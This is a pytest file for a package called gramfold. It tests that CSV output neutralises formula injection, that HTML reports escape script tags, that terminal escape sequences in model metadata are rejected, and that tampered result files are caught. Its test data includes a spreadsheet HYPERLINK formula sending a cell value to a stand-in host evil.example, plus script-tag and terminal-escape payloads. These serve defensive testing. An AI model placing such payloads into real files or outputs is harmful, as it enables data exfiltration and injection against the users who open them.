"""Names that are formulas, pages that are damaged, heads with escapes in their names: looked at, none of them does anything."""

import csv
import io
import json
from dataclasses import replace

import numpy as np
import pytest

import gramfold as gf
from gramfold import wire
from gramfold.cli.predict import write_table
from gramfold.errors import FileError, HeadError
from gramfold.report import render_page
from gramfold.report.papers import as_csv
from gramfold.report.text import cell
from gramfold.results.folder import page, read_page, seeds_page, write_page
from gramfold.wire import Packet

FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'


@pytest.mark.parametrize("text", [FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1"])
def test_a_text_that_would_be_a_formula_is_a_text(text):
    assert cell(text) == f"'{text}"


@pytest.mark.parametrize("value", ["-0.5", "+1e3", -0.5, 3, None, "cat", "a=b", ""])
def test_what_is_none_stays(value):
    assert cell(value) == value


def test_classes_of_a_hostile_site_are_no_formulas_in_predictions(tmp_path):
    write_table(tmp_path / "out.csv", {"sample": ["a"], "class": [FORMULA], f"probability of {FORMULA}": [0.5], FORMULA: [1]})
    rows = list(csv.reader(io.StringIO((tmp_path / "out.csv").read_text())))
    assert not any(entry.startswith(("=", "+", "@")) for row in rows for entry in row)


def test_a_comparison_has_no_formulas():
    row = dict.fromkeys(("n", "mean", "standard_error", "ci_low", "ci_high", "worst_decile", "shared", "uplink_bytes"), 0.5)
    row |= {"method": FORMULA, "difference": None, "downlink_bytes": 0, "seconds": 0.0}
    rows = list(csv.reader(io.StringIO(as_csv({"figure": "accuracy", "baseline": FORMULA, "methods": [row]}))))
    assert rows[1][0] == f"'{FORMULA}"
    assert not any(entry.startswith(("=", "+", "@")) for entry in rows[1])


def test_a_seed_is_text_on_the_page_of_several(federation):
    compared = gf.compare(["afl", "local"], (np.eye(40)[:, :4], np.arange(40) % 3), seeds=2, clients=2, partition="iid").to_dict()
    one = page([gf.run(gf.AFL(), federation)], seed=0, engine="inprocess", **federation.description)
    shown = render_page(seeds_page([{**one, "seed": "<script>alert(1)</script>"}, one], {**compared, "seeds": ["<b>", 1]}))
    assert "<script>alert" not in shown
    assert "<b>, 1" not in shown


def test_a_checksum_that_was_taken_away_is_missed(federation, tmp_path):
    write_page(tmp_path, page([gf.run(gf.AFL(), federation)], seed=0, engine="inprocess", **federation.description))
    path = tmp_path / "result.json"
    content = json.loads(path.read_text())
    assert read_page(tmp_path)["format"] == 2
    del content["checksum"]
    path.write_text(json.dumps({**content, "seed": 7}))
    with pytest.raises(FileError):
        read_page(tmp_path)
    path.write_text(json.dumps({**content, "format": 1}))
    assert read_page(tmp_path)["seed"] == 0, "of an older gramfold, which wrote none"


@pytest.mark.parametrize("change", [{"method": "\x1b]0;owned\x07"}, {"chosen": {"\x1b[31m": 1}}, {"method": "x" * 201}], ids=repr)
def test_a_heads_words_do_not_speak_to_the_terminal(change, federation, tmp_path):
    gf.run(gf.AFL(), federation).heads["0"].save(tmp_path / "head")
    packet = Packet.from_bytes(wire.read(tmp_path / "head"))
    (tmp_path / "head").write_bytes(replace(packet, meta={**packet.meta, **change}).to_bytes())
    with pytest.raises(gf.GramfoldError, match="words of at most 200 letters"):
        gf.load_head(tmp_path / "head")


def test_a_discriminant_without_axes_is_no_head(federation, tmp_path):
    gf.run(gf.PACE(features="bias+linear"), federation).heads["0"].save(tmp_path / "head")
    packet = Packet.from_bytes(wire.read(tmp_path / "head"))
    flat = {"discriminant.axes": np.zeros(4), "discriminant.centroids": np.zeros(4)}
    (tmp_path / "head").write_bytes(replace(packet, arrays={**packet.arrays, **flat}).to_bytes())
    with pytest.raises(HeadError):
        gf.load_head(tmp_path / "head")


@pytest.mark.parametrize("where", [("methods", 0, "clients"), ("methods", 0, "seconds"), ("partition",), ("data",), ("methods",)])
@pytest.mark.parametrize("odd", [None, 10**400, "\ud800", [[]], {"a": []}], ids=repr)
def test_a_page_that_is_damaged_is_said_to_be(where, odd, federation, gramfold, tmp_path):
    content = page([gf.run(gf.AFL(), federation)], seed=0, engine="inprocess", **federation.description)
    place = content
    for key in where[:-1]:
        place = place[key]
    place[where[-1]] = odd
    (tmp_path / "result.json").write_text(json.dumps(wire.sealed(content)))
    code, _, error = gramfold("report", "result.json")
    assert code in (0, 2)
    assert len(error.strip().splitlines()) == (1 if code else 0)
